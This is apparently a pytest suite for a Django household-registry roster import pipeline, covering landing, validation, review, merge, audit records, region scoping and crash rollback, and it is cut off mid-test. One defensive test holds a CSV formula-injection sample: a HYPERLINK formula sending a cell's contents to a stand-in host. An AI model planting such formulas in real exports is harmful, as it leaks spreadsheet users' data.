"""The staged import through the services: land → validate → review → merge or refuse.

Files are written as the export writes them (the roster's own columns), then edited as frames.
"""

from __future__ import annotations

import io
from pathlib import Path

import fastexcel
import polars as pl
import pytest

from fupin.core.models import ChangeRecord
from fupin.core.scoping import ScopeError
from fupin.core.tests.xlsx_help import workbook_help
from fupin.core.xlsx_sheet import xlsx_bytes
from fupin.imports import roster_help, selectors, services
from fupin.imports.choices import BatchStatus
from fupin.imports.models import ImportBatch, ImportRejection
from fupin.imports.pipelines import merge_roster as merge_module
from fupin.imports.pipelines.export_roster import export_frame
from fupin.registry.models import Household, Member
from fupin.testing import MINGXI, NINGHUA, first_village, next_id_number

pytestmark = pytest.mark.django_db
CITY = "350400000000"


@pytest.fixture(autouse=True)
def _data_dir(settings, tmp_path):
    settings.DATA_DIR = tmp_path


def write_csv(frame: pl.DataFrame, path: Path) -> Path:
    buffer = io.BytesIO()
    frame.write_csv(buffer)
    path.write_bytes("\ufeff".encode() + buffer.getvalue())
    return path


def snapshot() -> tuple:
    return (list(Household.objects.order_by("pk").values()), list(Member.objects.order_by("pk").values()),
            list(ChangeRecord.objects.order_by("pk").values_list("pk", flat=True)))


def run(path: Path, *, actor=None, region: str = CITY) -> ImportBatch:
    batch = services.land_file(actor=actor, file_name=path.name, path=path, region_code=region, source="test")
    return services.validate_batch(batch.pk)


def import_file(path: Path, *, actor=None, region: str = CITY, persons_left: int = 0) -> ImportBatch:
    """Check and merge ``path``; ``persons_left``: the persons the reviewer confirms as leaving (核对减员)."""
    batch = run(path, actor=actor, region=region)
    assert batch.status == BatchStatus.REVIEW, batch.error
    assert batch.persons_left == persons_left
    return services.merge_batch(actor=actor, batch_id=batch.pk, comment="ok",
                                persons_left_confirmed=persons_left or None)


def new_rows(n_households: int = 2, *, village: str | None = None, start: int = 90001) -> pl.DataFrame:
    """Roster rows for new households (3 persons each), built from an exported template row."""
    return pl.concat([_household_rows(village or first_village(MINGXI, 2), f"{start + i}") for i in range(n_households)])


_TEMPLATE: dict[str, pl.DataFrame] = {}


def _household_rows(village: str, seq: str) -> pl.DataFrame:
    if "t" not in _TEMPLATE:
        from fupin.testing import make_household_for

        household = make_household_for(first_village(MINGXI, 0), members=3)
        _TEMPLATE["t"] = export_frame(None, MINGXI).filter(pl.col("户编号") == household.household_number)
        Member.objects.filter(household=household).update(status="left")
        Household.objects.filter(pk=household.pk).update(status="left", household_number="tmpl-" + seq)
    rows = _TEMPLATE["t"]
    return rows.with_columns(
        pl.lit(village).alias("行政区划代码"), pl.lit("").alias("乡镇"), pl.lit("").alias("行政村"), pl.lit("").alias("性别"),
        pl.lit(f"{village}{seq}").alias("户编号"),
        pl.Series("证件号码", [next_id_number() for _ in range(rows.height)]),
    )


@pytest.fixture(autouse=True)
def _reset_template():
    _TEMPLATE.clear()
    yield
    _TEMPLATE.clear()


def test_land_keeps_a_copy_with_its_hash(tmp_path):
    path = write_csv(new_rows(1), tmp_path / "a.csv")
    batch = services.land_file(actor=None, file_name="a.csv", path=path, region_code=CITY, source="test")
    import hashlib

    assert batch.status == BatchStatus.LANDED
    assert batch.file_sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert Path(batch.stored_path).read_bytes() == path.read_bytes()
    assert (batch.actor_name, batch.region_code, batch.file_size) == ("system", CITY, path.stat().st_size)


def test_an_uploaded_file_is_landed_from_its_stream(tmp_path):
    """An open file (as the web page and the API hand it over) lands as its path would: same bytes,
    hash and size, and only the batch's own file is left in the imports folder."""
    path = write_csv(new_rows(1), tmp_path / "a.csv")
    with open(path, "rb") as stream:
        batch = services.land_file(actor=None, file_name="花名册.csv", content=stream, region_code=CITY, source="test")
    import hashlib

    assert batch.file_sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert batch.file_size == path.stat().st_size
    assert Path(batch.stored_path).read_bytes() == path.read_bytes()
    assert [p.name for p in services.imports_dir().iterdir()] == [Path(batch.stored_path).name]
    assert Path(batch.stored_path).name == f"batch-{batch.pk:06d}-{batch.file_sha256[:12]}.csv"


def test_an_empty_or_oversized_file_is_refused_before_any_batch(tmp_path, settings):
    path = write_csv(new_rows(1), tmp_path / "a.csv")
    size = path.stat().st_size
    with pytest.raises(services.ImportRefused) as refused:
        services.land_file(actor=None, file_name="a.csv", content=b"", region_code=CITY, source="test")
    assert (refused.value.message, refused.value.field) == ("文件为空 / the file is empty", "file")
    settings.FUPIN_IMPORT_MAX_BYTES = size - 1
    with pytest.raises(services.ImportRefused) as refused:
        services.land_file(actor=None, file_name="a.csv", path=path, region_code=CITY, source="test")
    assert refused.value.field == "file" and refused.value.message.startswith("文件超过")
    assert not ImportBatch.objects.exists()
    assert list(services.imports_dir().iterdir()) == []  # no partial copy left behind
    settings.FUPIN_IMPORT_MAX_BYTES = size  # at the limit: landed
    assert services.land_file(actor=None, file_name="a.csv", path=path, region_code=CITY,
                              source="test").file_size == size


def test_accounting_and_merge_of_new_households(tmp_path):
    rows = new_rows(3)
    bad = rows.with_row_index("i").with_columns(
        pl.when(pl.col("i") == 4).then(pl.lit("123")).otherwise(pl.col("证件号码")).alias("证件号码")).drop("i")
    path = write_csv(bad, tmp_path / "roster.csv")
    before = Household.objects.count()
    batch = run(path)
    assert batch.status == BatchStatus.REVIEW
    # Row 6 (the 5th data row) is bad: its household (rows 5–7) is rejected whole.
    assert (batch.rows_read, batch.rows_imported, batch.rows_rejected) == (9, 6, 3)
    assert batch.accounted
    assert (batch.households_new, batch.households_changed, batch.households_unchanged) == (2, 0, 0)
    assert (batch.persons_new, batch.persons_changed, batch.persons_unchanged) == (6, 0, 0)
    rejected = list(ImportRejection.objects.filter(batch=batch).values_list("row_number", "column"))
    assert rejected == [(5, ""), (6, "证件号码"), (7, "")]
    village = first_village(MINGXI, 2)
    assert batch.by_village == [{"village_code": village, "name": batch.by_village[0]["name"], "new": 2,
                                 "changed": 0, "unchanged": 0, "persons_new": 6, "persons_changed": 0,
                                 "persons_unchanged": 0, "persons_left": 0, "rejected": 3, "absent": 0}]
    assert Household.objects.count() == before  # nothing written at review
    records = ChangeRecord.objects.count()
    work = sorted(p.name for p in services.imports_dir().glob(f"batch-{batch.pk:06d}-*") if "parquet" in p.name)
    assert work == sorted([*(f"batch-{batch.pk:06d}-diff-{part}.parquet" for part in services._DIFF_FRAMES),
                           f"batch-{batch.pk:06d}-changes.parquet"])
    batch = services.merge_batch(actor=None, batch_id=batch.pk, comment="ok")
    assert batch.status == BatchStatus.MERGED
    left = sorted(p.name for p in services.imports_dir().glob(f"batch-{batch.pk:06d}-*"))
    # working files gone; the landed file and the list of changes stay
    assert left == sorted([Path(batch.stored_path).name, f"batch-{batch.pk:06d}-changes.parquet"])
    assert Household.objects.count() == before + 2
    household = Household.objects.get(household_number=f"{village}90001")
    assert (household.size, household.village_code, household.county_code, household.version) == (3, village,
                                                                                                  MINGXI, 1)
    assert household.head_name == household.members.get(relation="01").name
    assert ChangeRecord.objects.count() == records + 2
    record = ChangeRecord.objects.filter(household_id=household.pk).get()
    assert (record.action, record.source, record.comment) == ("create", "import", f"导入批次 #{batch.pk}")
    assert record.changes["household_number"] == [None, household.household_number]


def test_reimporting_the_same_file_changes_nothing(tmp_path):
    path = write_csv(new_rows(2), tmp_path / "roster.csv")
    import_file(path)
    before = snapshot()
    again = run(path)
    assert (again.households_new, again.households_changed, again.households_unchanged) == (0, 0, 2)
    assert (again.persons_new, again.persons_changed, again.persons_unchanged) == (0, 0, 6)
    services.merge_batch(actor=None, batch_id=again.pk)
    assert snapshot() == before


def test_a_newer_file_updates_and_audits_exactly_what_changed(tmp_path):
    rows = new_rows(4)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    numbers = rows["户编号"].unique(maintain_order=True).to_list()
    first_id = rows.filter(pl.col("户编号") == numbers[1])["证件号码"][1]
    newer = rows.with_columns(
        pl.when(pl.col("户编号") == numbers[0]).then(pl.lit("13900000000")).otherwise(pl.col("联系电话"))
        .alias("联系电话"),
        pl.when(pl.col("证件号码") == first_id).then(pl.lit("高中")).otherwise(pl.col("文化程度")).alias("文化程度"),
    )
    records = ChangeRecord.objects.count()
    batch = import_file(write_csv(newer, tmp_path / "v2.csv"))
    assert (batch.households_new, batch.households_changed, batch.households_unchanged) == (0, 2, 2)
    assert (batch.persons_changed, batch.persons_unchanged) == (1, 11)
    h0 = Household.objects.get(household_number=numbers[0])
    assert (h0.phone, h0.version) == ("13900000000", 2)
    member = Member.objects.get(id_number=first_id)
    assert (member.education, member.version) == ("4", 2)
    new_records = ChangeRecord.objects.order_by("pk")[records:]
    assert [(r.model, r.object_id, r.changes) for r in new_records] == [
        ("registry.member", str(member.pk), {"education": ["3", "4"]}),
        ("registry.household", str(h0.pk), {"phone": [rows["联系电话"][0], "13900000000"]}),
    ]
    assert all(r.comment == f"导入批次 #{batch.pk}" and r.source == "import" for r in new_records)


def test_a_member_missing_from_the_file_leaves_the_household(tmp_path):
    rows = new_rows(1)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    gone = rows["证件号码"][2]
    # 年人均纯收入 is checked against the lines ÷ size: left blank here (the size changes).
    batch = import_file(write_csv(rows.head(2).with_columns(pl.lit("").alias("年人均纯收入")), tmp_path / "v2.csv"),
                        persons_left=1)
    assert (batch.rows_rejected, batch.households_changed, batch.persons_unchanged) == (0, 1, 2)
    member = Member.objects.get(id_number=gone)
    assert (member.status, member.left_reason) == ("left", "other")
    assert f"#{batch.pk}" in member.left_comment
    assert Household.objects.get(household_number=rows["户编号"][0]).size == 2
    assert batch.persons_left == 1 and batch.by_village[0]["persons_left"] == 1


def test_the_reviewer_sees_every_change_before_the_merge(tmp_path, make_user):
    """变更明细: the persons who would leave, and each changed field's old and new value, are shown at
    review — counted, listed by field, filtered, paged, masked for roles without full numbers."""
    rows = new_rows(3)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    numbers = rows["户编号"].unique(maintain_order=True).to_list()
    gone = rows.filter(pl.col("户编号") == numbers[0])["证件号码"][2]
    newer = rows.filter(pl.col("证件号码") != gone).with_columns(
        pl.when(pl.col("户编号") == numbers[1]).then(pl.lit("6217009999999990000")).otherwise(pl.col("银行账号"))
        .alias("银行账号"),
        pl.when(pl.col("户编号") == numbers[0]).then(pl.lit("")).otherwise(pl.col("年人均纯收入")).alias("年人均纯收入"))
    batch = run(write_csv(newer, tmp_path / "v2.csv"))
    assert (batch.status, batch.persons_left, batch.households_changed) == (BatchStatus.REVIEW, 1, 2)
    summary = {(s["change"], s["field"]): (s["rows"], s["households"]) for s in batch.changes_by_field}
    assert summary[("member_left", "relation")] == (1, 1)
    assert summary[("household", "bank_account")] == (1, 1)
    assert summary[("household", "size")] == (1, 1)

    total, page = services.changes_page(batch, full=True)
    assert total == sum(r for r, _h in summary.values()) == page.height
    left = page.filter(pl.col("change") == "member_left").row(0, named=True)
    assert (left["household_number"], left["id_number"]) == (numbers[0], gone)
    account = page.filter(pl.col("field") == "bank_account").row(0, named=True)
    assert (account["old"], account["new"]) == (rows.filter(pl.col("户编号") == numbers[1])["银行账号"][0],
                                                "6217009999999990000")
    only = services.ChangeFilter(change="member_left")
    assert services.changes_page(batch, full=True, where=only)[0] == 1
    assert services.changes_page(batch, full=True, where=services.ChangeFilter(village="350421000000"))[0] == 0
    assert services.changes_page(batch, full=True, offset=1, limit=1)[1].rows() == page.slice(1, 1).rows()
    _n, masked = services.changes_page(batch, full=False, where=only)
    assert masked["id_number"][0] == gone[:4] + "*" * 10 + gone[-4:]
    _n, masked = services.changes_page(batch, full=False, where=services.ChangeFilter(field="bank_account"))
    assert masked["new"][0] == "*" * 15 + "0000"

    content, n = services.changes_xlsx(batch, full=False)
    sheet = fastexcel.read_excel(content).load_sheet(0).to_polars()
    assert n == total == sheet.height
    assert "成员减少(文件中该户无此人) member leaves (not in the file's household)" in sheet["变更类型 change"].to_list()
    assert gone not in sheet["证件号码 ID number"].to_list()

    before = Member.objects.get(id_number=gone).status
    assert before == "active"  # nothing written at review
    # 核对减员: the merge needs the number of persons leaving confirmed.
    for confirmed in (None, 0, 2):
        with pytest.raises(services.ImportRefused, match="入库将注销 1 名成员") as refused:
            services.merge_batch(actor=None, batch_id=batch.pk, persons_left_confirmed=confirmed)
        assert refused.value.field == "persons_left_confirmed"
    assert ImportBatch.objects.get(pk=batch.pk).status == BatchStatus.REVIEW
    merged = services.merge_batch(actor=None, batch_id=batch.pk, persons_left_confirmed=1)
    assert services.changes_page(merged, full=True)[0] == total  # still shown after the merge
    assert Member.objects.get(id_number=gone).status == "left"


def test_a_fresh_diff_at_merge_rewrites_the_list_with_the_values_written(tmp_path):
    rows = new_rows(1)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    number = rows["户编号"][0]
    batch = run(write_csv(rows.with_columns(pl.lit("13700000000").alias("联系电话")), tmp_path / "v2.csv"))
    _n, page = services.changes_page(batch, full=True, where=services.ChangeFilter(field="phone"))
    assert page["old"][0] == rows["联系电话"][0]
    Household.objects.filter(household_number=number).update(phone="13911112222")  # someone else, meanwhile
    batch = services.merge_batch(actor=None, batch_id=batch.pk)
    _n, page = services.changes_page(batch, full=True, where=services.ChangeFilter(field="phone"))
    assert (page["old"][0], page["new"][0]) == ("13911112222", "13700000000")
    assert batch.changes_by_field == ImportBatch.objects.get(pk=batch.pk).changes_by_field


def test_a_batch_that_would_now_make_other_persons_leave_is_refused(tmp_path):
    rows = new_rows(1)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    batch = run(write_csv(rows.with_columns(pl.lit("13700000000").alias("联系电话")), tmp_path / "v2.csv"))
    assert batch.persons_left == 0
    household = Household.objects.get(household_number=rows["户编号"][0])
    extra = household.members.first()
    Member.objects.create(**{f.name: getattr(extra, f.name) for f in Member._meta.concrete_fields
                             if f.name not in ("id", "id_number", "name")},
                          id_number=next_id_number(), name="后来登记")
    with pytest.raises(services.ImportRefused, match="重新校验"):
        services.merge_batch(actor=None, batch_id=batch.pk)


def test_export_then_import_is_zero_changed_for_a_county_user(tmp_path, make_household, make_user):
    for _ in range(3):
        make_household(members=3, other_cause_1="2", dilapidated_grade="C", phone="0598-1234567")
    officer = make_user("county", MINGXI)
    from fupin.imports.pipelines.export_roster import export_roster

    path = tmp_path / "export.xlsx"
    path.write_bytes(export_roster(officer, MINGXI, "xlsx"))
    before = snapshot()
    batch = run(path, actor=officer, region=MINGXI)
    assert (batch.rows_read, batch.rows_rejected) == (9, 0)
    assert (batch.households_changed, batch.households_new, batch.households_unchanged) == (0, 0, 3)
    assert batch.persons_changed == 0
    services.merge_batch(actor=officer, batch_id=batch.pk)
    assert snapshot() == before


def test_would_be_formulas_are_guarded_in_the_csv_export_and_import_back_unchanged(tmp_path, make_household):
    """公式注入防护: a free-text value Excel would run as a formula is written after an apostrophe in the
    CSV (not in the xlsx, whose cells are text); importing the CSV again changes nothing."""
    from fupin.imports.pipelines.export_roster import export_roster

    formula = '=HYPERLINK("http://example.invalid/?"&D2,"点击")'
    make_household(members=2, group_name=formula, bank_name="@SUM(1+1)", phone="-1+2")
    make_household(members=2, group_name="'=already quoted", phone="0598-1234567")
    data = export_roster(None, MINGXI, "csv")
    frame = pl.read_csv(io.BytesIO(data[3:]), infer_schema=False)
    assert sorted(frame["自然村(组)"].unique().to_list()) == sorted(["'" + formula, "''=already quoted"])
    assert sorted(frame["开户银行"].unique().to_list()) == ["", "'@SUM(1+1)"]
    assert sorted(frame["联系电话"].unique().to_list()) == ["'-1+2", "0598-1234567"]
    assert not any(v and v[0] in "=+-@" for c in frame.columns for v in frame[c].drop_nulls().to_list()
                   if not v.lstrip("+-").replace(".", "", 1).isdigit())
    sheet = fastexcel.read_excel(export_roster(None, MINGXI, "xlsx")).load_sheet(0, dtypes="string").to_polars()
    assert formula in sheet["自然村(组)"].to_list()  # xlsx: as stored
    path = tmp_path / "export.csv"
    path.write_bytes(data)
    before = snapshot()
    batch = run(path)
    assert (batch.rows_read, batch.rows_rejected, batch.households_unchanged, batch.households_changed) == (4, 0, 2, 0)
    services.merge_batch(actor=None, batch_id=batch.pk)
    assert snapshot() == before


def test_registered_households_missing_from_the_file_are_counted_by_village_and_left_alone(
        tmp_path, make_household, make_user):
    """在册但文件中没有的户: the file re-imports village A's roster without one of its households, with one
    household rejected (bad ID number: still in the file) and one new; village B is not in the file at
    all. One household of A is absent; B's two are not counted (the file does not cover B)."""
    from fupin.imports.pipelines.export_roster import export_frame

    village_a, village_b = first_village(MINGXI, 0), first_village(MINGXI, 1)
    kept, dropped, broken = (make_household(village_a, members=2) for _ in range(3))
    make_household(village_b, members=2)
    make_household(village_b, members=2)
    officer = make_user("county", MINGXI)
    rows = export_frame(None, MINGXI).filter(pl.col("行政区划代码") == village_a)
    rows = rows.filter(pl.col("户编号") != dropped.household_number).with_columns(
        pl.when((pl.col("户编号") == broken.household_number) & (pl.col("与户主关系") != "户主"))
        .then(pl.col("证件号码").str.slice(0, 17)  # a wrong check character, whatever the right one is
              + pl.when(pl.col("证件号码").str.ends_with("0")).then(pl.lit("1")).otherwise(pl.lit("0")))
        .otherwise(pl.col("证件号码")).alias("证件号码"))
    rows = pl.concat([rows, new_rows(1, village=village_a).select(rows.columns)])
    before = snapshot()
    batch = run(write_csv(rows, tmp_path / "a.csv"), actor=officer, region=MINGXI)
    assert (batch.households_new, batch.households_unchanged, batch.rows_rejected) == (1, 1, 2), batch.error
    assert batch.households_absent == 1
    villages = {v["village_code"]: v for v in batch.by_village}
    assert villages[village_a]["absent"] == 1 and village_b not in villages
    assert list(selectors.batch_absent_households(officer, batch.pk).values_list("village_code", "household_number")) \
        == [(village_a, dropped.household_number)]
    sheet = fastexcel.read_excel(services.absent_xlsx(officer, batch)).load_sheet(0, dtypes="string").to_polars()
    assert sheet.rows() == [(village_a, sheet.item(0, 1), dropped.household_number, dropped.head_name, "在册 active")]
    assert sheet.item(0, 1)  # the village's name
    assert services.validate_batch(batch.pk).households_absent == 1  # checked again: listed once, not twice
    assert selectors.batch_absent_households(officer, batch.pk).count() == 1
    _checked, _diff, counts = services.preview_file(tmp_path / "a.csv", actor=officer, region_code=MINGXI)
    assert counts["households_absent"] == 1
    services.merge_batch(actor=officer, batch_id=batch.pk)
    assert Household.objects.get(pk=dropped.pk).status == "active"  # left as it was
    assert Household.objects.count() == len(before[0]) + 1
    assert kept.household_number  # (kept: in the file, unchanged)


def test_rows_outside_the_users_region_are_rejected_not_written(tmp_path, make_user):
    officer = make_user("county", MINGXI)
    rows = pl.concat([new_rows(1), new_rows(1, village=first_village(NINGHUA, 0), start=90002)])
    batch = import_file(write_csv(rows, tmp_path / "r.csv"), actor=officer, region=MINGXI)
    assert (batch.rows_read, batch.rows_imported, batch.rows_rejected) == (6, 3, 3)
    assert not Household.objects.filter(village_code__startswith="350424").exists()
    assert Household.objects.filter(household_number=rows["户编号"][0]).exists()


def test_a_user_cannot_land_a_file_for_another_region(tmp_path, make_user):
    officer = make_user("county", MINGXI)
    path = write_csv(new_rows(1), tmp_path / "r.csv")
    with pytest.raises(ScopeError):
        services.land_file(actor=officer, file_name="r.csv", path=path, region_code=NINGHUA, source="test")
    viewer = make_user("city", CITY)
    with pytest.raises(ScopeError):
        services.land_file(actor=viewer, file_name="r.csv", path=path, region_code=CITY, source="test")
    assert ImportBatch.objects.count() == 0


def test_refused_batch_writes_nothing_and_cannot_be_merged(tmp_path):
    batch = run(write_csv(new_rows(2), tmp_path / "r.csv"))
    before = snapshot()
    refused = services.refuse_batch(actor=None, batch_id=batch.pk, comment="wrong file")
    assert (refused.status, refused.decision_comment) == (BatchStatus.REFUSED, "wrong file")
    assert sorted(p.name for p in services.imports_dir().glob(f"batch-{batch.pk:06d}-*")) == sorted(
        [Path(batch.stored_path).name, f"batch-{batch.pk:06d}-changes.parquet"])  # kept, like the rejections
    with pytest.raises(services.ImportRefused):
        services.merge_batch(actor=None, batch_id=batch.pk)
    assert snapshot() == before


def test_a_crash_mid_merge_leaves_the_registry_exactly_as_before(tmp_path, monkeypatch):
    rows = new_rows(2)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    newer = pl.concat([rows.with_columns(pl.lit("13700000000").alias("联系电话")), new_rows(1, start=90003)])
    batch = run(write_csv(newer, tmp_path / "v2.csv"))
    before = snapshot()
    real = merge_module.copy_frame

    def crash_on_audit(model, frame, **kwargs):
        if model is ChangeRecord:
            raise RuntimeError("disk full")
        return real(model, frame, **kwargs)

    monkeypatch.setattr(merge_module, "copy_frame", crash_on_audit)
    with pytest.raises(services.ImportRefused, match="disk full"):
        services.merge_batch(actor=None, batch_id=batch.pk)
    assert snapshot() == before
    batch.refresh_from_db()
    assert batch.status == BatchStatus.FAILED and "disk full" in batch.error


@pytest.mark.django_db(transaction=True)
def test_a_failed_merge_leaves_no_staging_file_attached(tmp_path, monkeypatch):
    """SQLite: a merge that loaded through staging files and then failed detaches them once its
    transaction has rolled back (no ``on_commit`` runs then); otherwise every failed merge kept one
    attached, and after eight a connection's large loads fell back to ``executemany``."""
    from django.db import connection

    from fupin.core import bulk, sqlite_stage
    from fupin.testing import load_test_regions

    if connection.vendor != "sqlite":
        pytest.skip("staging files are SQLite's bulk path")
    load_test_regions()  # a transactional test starts from a flushed database
    sqlite_stage.detach_idle()
    monkeypatch.setattr(bulk, "SQLITE_STAGE_ROWS", 1)
    batch = run(write_csv(new_rows(2), tmp_path / "r.csv"))
    before = snapshot()
    staged: list[list[str]] = []
    real = merge_module.copy_frame

    def crash_on_audit(model, frame, **kwargs):
        if model is ChangeRecord:
            staged.append(sqlite_stage._attached())
            raise RuntimeError("disk full")
        return real(model, frame, **kwargs)

    monkeypatch.setattr(merge_module, "copy_frame", crash_on_audit)
    with pytest.raises(services.ImportRefused, match="disk full"):
        services.merge_batch(actor=None, batch_id=batch.pk)
    assert len(staged[0]) >= 2  # the households' and the members' staging files were in use
    assert sqlite_stage._attached() == []
    assert snapshot() == before


def test_a_stale_batch_is_refused(tmp_path, make_household):
    rows = new_rows(1)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    batch = run(write_csv(rows.with_columns(pl.lit("13700000000").alias("联系电话")), tmp_path / "v2.csv"))
    Household.objects.filter(household_number=rows["户编号"][0]).update(phone="13700000000")  # someone else
    with pytest.raises(services.ImportRefused, match="重新校验"):
        services.merge_batch(actor=None, batch_id=batch.pk)
    batch.refresh_from_db()
    assert batch.status == BatchStatus.REVIEW


def test_a_registry_changed_without_changing_the_outcome_merges_a_fresh_diff(tmp_path):
    rows = new_rows(1)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    number = rows["户编号"][0]
    batch = run(write_csv(rows.with_columns(pl.lit("13700000000").alias("联系电话")), tmp_path / "v2.csv"))
    assert batch.households_changed == 1
    Household.objects.filter(household_number=number).update(phone="13911112222")  # someone else, meanwhile
    batch = services.merge_batch(actor=None, batch_id=batch.pk)
    assert batch.status == BatchStatus.MERGED
    household = Household.objects.get(household_number=number)
    assert household.phone == "13700000000"
    record = ChangeRecord.objects.filter(household_id=household.pk, source="import").latest("pk")
    assert record.changes["phone"] == ["13911112222", "13700000000"]  # against the registry as it was


def test_an_unreadable_file_fails_the_batch(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("nothing,here\n1,2\n")
    batch = run(path)
    assert batch.status == BatchStatus.FAILED and batch.error


def _stop(batch: ImportBatch, *, seconds_ago: float, status: str = BatchStatus.VALIDATING) -> ImportBatch:
    """As a process that died while validating leaves a batch: ``status``, last heartbeat long ago."""
    from datetime import timedelta

    from django.utils import timezone

    ImportBatch.objects.filter(pk=batch.pk).update(
        status=status, progress=5, progress_label="读取与校验 / reading and checking",
        heartbeat_at=timezone.now() - timedelta(seconds=seconds_ago))
    return ImportBatch.objects.get(pk=batch.pk)


def test_a_batch_whose_heartbeat_is_silent_is_stalled_and_can_be_checked_again(tmp_path, settings):
    settings.FUPIN_IMPORT_HEARTBEAT_SECONDS = 30  # stalled after 120 s without a beat
    path = write_csv(new_rows(2), tmp_path / "a.csv")
    batch = services.land_file(actor=None, file_name="a.csv", path=path, region_code=CITY, source="test")
    at_work = _stop(batch, seconds_ago=100)
    assert not at_work.stalled()  # four beats not yet missed: the check may be at work
    with pytest.raises(services.ImportRefused, match="only a batch whose check failed or stopped"):
        services.claim_revalidation(actor=None, batch_id=batch.pk)
    stopped = _stop(batch, seconds_ago=130)
    assert stopped.stalled()
    claimed = services.claim_revalidation(actor=None, batch_id=batch.pk)
    assert (claimed.status, claimed.progress, claimed.stalled()) == (BatchStatus.VALIDATING, 0, False)
    with pytest.raises(services.ImportRefused):  # claimed once: a second request does not start another
        services.claim_revalidation(actor=None, batch_id=batch.pk)
    done = services.validate_batch(batch.pk)
    assert (done.status, done.rows_read, done.households_new, done.stalled()) == (BatchStatus.REVIEW, 6, 2, False)
    assert not _stop(done, seconds_ago=10_000, status=BatchStatus.REVIEW).stalled()  # only landed/validating stall


def test_a_landed_batch_never_validated_stalls_from_its_upload_time(tmp_path, settings):
    from datetime import timedelta

    from django.utils import timezone

    settings.FUPIN_IMPORT_HEARTBEAT_SECONDS = 30
    path = write_csv(new_rows(1), tmp_path / "a.csv")
    batch = services.land_file(actor=None, file_name="a.csv", path=path, region_code=CITY, source="test")
    assert batch.heartbeat_at is None and not batch.stalled()
    assert batch.stalled(now=timezone.now() + timedelta(seconds=121))
    ImportBatch.objects.filter(pk=batch.pk).update(created_at=timezone.now() - timedelta(seconds=121))
    assert services.claim_revalidation(actor=None, batch_id=batch.pk).status == BatchStatus.VALIDATING


def test_a_failed_batch_can_be_checked_again_and_a_stalled_one_refused(tmp_path, make_user):
    path = tmp_path / "x.csv"
    path.write_text("nothing,here\n1,2\n")
    failed = run(path)
    assert failed.status == BatchStatus.FAILED
    officer = make_user("county", MINGXI)
    outsider = make_user("county", NINGHUA)
    with pytest.raises(ScopeError):  # the city's batch is outside a county officer's region
        services.claim_revalidation(actor=officer, batch_id=failed.pk)
    again = services.claim_revalidation(actor=None, batch_id=failed.pk)
    assert (again.status, again.error) == (BatchStatus.VALIDATING, "")
    assert services.validate_batch(failed.pk).status == BatchStatus.FAILED  # the same file fails the same way

    good = write_csv(new_rows(1, village=first_village(MINGXI, 2)), tmp_path / "b.csv")
    batch = services.land_file(actor=officer, file_name="b.csv", path=good, region_code=MINGXI, source="test")
    with pytest.raises(ScopeError):
        services.refuse_batch(actor=outsider, batch_id=_stop(batch, seconds_ago=10_000).pk, comment="x")
    _stop(batch, seconds_ago=10)
    with pytest.raises(services.ImportRefused):  # at work: cannot be refused under the validation
        services.refuse_batch(actor=officer, batch_id=batch.pk, comment="重复上传")
    _stop(batch, seconds_ago=10_000)
    refused = services.refuse_batch(actor=officer, batch_id=batch.pk, comment="重复上传")
    assert refused.status == BatchStatus.REFUSED and refused.decision_comment == "重复上传"


def test_rejections_xlsx_is_readable(tmp_path):
    rows = new_rows(1).with_columns(pl.lit("因穷").alias("主要致贫原因"))
    batch = run(write_csv(rows, tmp_path / "r.csv"))
    sheet = fastexcel.read_excel(services.rejections_xlsx(batch.pk)).load_sheet(0).to_polars()
    assert sheet.columns == list(services.REPORT_HEADERS.values())
    assert sheet.height == ImportRejection.objects.filter(batch=batch).count() >= 3


def test_a_rejections_report_longer_than_a_sheet_goes_on_to_further_sheets(tmp_path, monkeypatch):
    from fupin.core import xlsx_sheet

    rows = new_rows(1).with_columns(pl.lit("因穷").alias("主要致贫原因"))
    batch = run(write_csv(rows, tmp_path / "r.csv"))
    stored = ImportRejection.objects.filter(batch=batch).count()
    monkeypatch.setattr(xlsx_sheet, "MAX_ROWS", 3)  # 2 rejections a sheet
    book = fastexcel.read_excel(services.rejections_xlsx(batch.pk))
    assert book.sheet_names[:2] == ["错误行", "错误行2"] and len(book.sheet_names) == (stored + 1) // 2
    assert sum(book.load_sheet(i).height for i in range(len(book.sheet_names))) == stored


def test_selectors_scope_batches(tmp_path, make_user):
    mine = run(write_csv(new_rows(1), tmp_path / "r.csv"), region=MINGXI)
    run(write_csv(new_rows(1, village=first_village(NINGHUA, 0), start=90005), tmp_path / "s.csv"), region=NINGHUA)
    officer = make_user("county", MINGXI)
    assert list(selectors.batches(officer)) == [mine]
    assert selectors.batch_detail(officer, mine.pk) == mine
    other = ImportBatch.objects.exclude(pk=mine.pk).get()
    with pytest.raises(ScopeError):
        selectors.batch_detail(officer, other.pk)


def test_a_user_outside_the_batch_region_cannot_merge_or_refuse_it(tmp_path, make_user):
    batch = run(write_csv(new_rows(1), tmp_path / "r.csv"), region=MINGXI)
    outsider = make_user("county", NINGHUA)
    with pytest.raises(ScopeError):
        services.merge_batch(actor=outsider, batch_id=batch.pk)
    with pytest.raises(ScopeError):
        services.refuse_batch(actor=outsider, batch_id=batch.pk, comment="no")
    batch.refresh_from_db()
    assert batch.status == BatchStatus.REVIEW


@pytest.mark.parametrize("crash", [False, True])
def test_a_large_merge_builds_indexes_after_the_load_and_a_crash_keeps_them(tmp_path, monkeypatch, crash):
    """With the large-load path forced (PostgreSQL drops secondary indexes and foreign keys, loads,
    builds them again), the registry ends as with the ordinary path — or, on a crash in the middle,
    exactly as before, indexes and keys included."""
    from django.db import connection

    from fupin.core import bulk

    def schema() -> list:
        if connection.vendor != "postgresql":
            return []
        with connection.cursor() as cursor:
            cursor.execute("SELECT indexname FROM pg_indexes WHERE tablename IN "
                           "('registry_household', 'registry_member', 'core_changerecord') ORDER BY 1")
            names = [r[0] for r in cursor.fetchall()]
            cursor.execute("SELECT conname FROM pg_constraint WHERE contype = 'f' AND conrelid::regclass::text IN "
                           "('registry_household', 'registry_member', 'core_changerecord') ORDER BY 1")
            return names + [r[0] for r in cursor.fetchall()]

    monkeypatch.setattr(bulk, "REBUILD_MIN_ROWS", 1)
    batch = run(write_csv(new_rows(3), tmp_path / "big.csv"))
